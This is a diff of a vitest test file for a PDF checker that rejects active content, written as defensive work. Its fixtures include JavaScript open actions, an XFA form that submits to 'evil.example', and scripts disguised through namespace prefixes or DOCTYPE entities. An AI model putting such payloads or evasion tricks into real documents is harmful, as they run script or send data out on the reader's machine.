@@ -5,7 +5,8 @@ import { deflateSync } from 'node:zlib'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { Refusal } from '#kernel/refusals.ts'
 import { aPdfOf, type PdfPacking } from '../../testing/pdf.ts'
-import { checkDocument } from './check-document.ts'
+import { ApartFailure } from '#platform/apart/apart.ts'
+import { checkDocument, refusalOf } from './check-document.ts'
 
 let dir: string
 beforeAll(async () => {
@@ -16,7 +17,7 @@ afterAll(() => rm(dir, { recursive: true }))
 async function verdictOn(pdf: Buffer): Promise<unknown> {
   const path = join(dir, 'document.pdf')
   await writeFile(path, pdf)
-  return checkDocument(path).then(
+  return checkDocument(path, null).then(
     () => 'passes',
     (error: unknown) => (error instanceof Refusal ? (error.details['found'] ?? error.code) : error),
   )
@@ -26,7 +27,10 @@ type Parts = Omit<Parameters<typeof aPdfOf>[0], 'packing'>
 
 const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
 const annotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`
-const xfa = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
+const xfa = (text: string) => {
+  const bytes = Buffer.from(text, 'utf8').toString('latin1')
+  return `<< /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
+}
 
 const ACTIVE: [string, Parts, string][] = [
   ['a script when it is opened', { catalogue: `/OpenAction ${js}` }, 'script'],
@@ -141,6 +145,17 @@ describe('a form in XML', () => {
       '<t:template><t:submit target="https://evil.example"/></t:template>',
       'script',
     ],
+    ['with a script under a prefix with a sign', '<x-f:script contentType="x">x()</x-f:script>', 'script'],
+    [
+      'with a script under a prefix in another script',
+      '<\u03b1\u03b2.1:script>x()</\u03b1\u03b2.1:script>',
+      'script',
+    ],
+    [
+      'with words of its own that stand for a script',
+      '<!DOCTYPE t [<!ENTITY s "&#60;script>x()&#60;/script>">]><t>&s;</t>',
+      'script',
+    ],
     ['in letters of two bytes', '\xfe\xff\0<\0s\0c\0r', 'script'],
     ['without either', '<template><field name="description"/></template>', 'passes'],
   ])('%s: %s', async (_what, text, verdict) => {
@@ -154,6 +169,15 @@ test.each<[string, () => Buffer]>([
   ['a bomb', () => bomb()],
 ])('%s cannot be read', async (_what, make) => {
   expect(await verdictOn(make())).toBe('file-unreadable')
+})
+
+test('what may be our doing is not said of the file, and is worth another try', () => {
+  const said = (['memory', 'time', 'ended'] as const).map((reason) => refusalOf(new ApartFailure(reason)))
+  expect(said.map(({ code, details }) => [code, details])).toEqual([
+    ['file-unreadable', {}],
+    ['check-unfinished', { retryAfterSeconds: 60 }],
+    ['check-unfinished', { retryAfterSeconds: 60 }],
+  ])
 })
 
 /** 700 MB of nothing in less than one, where its objects should be. */
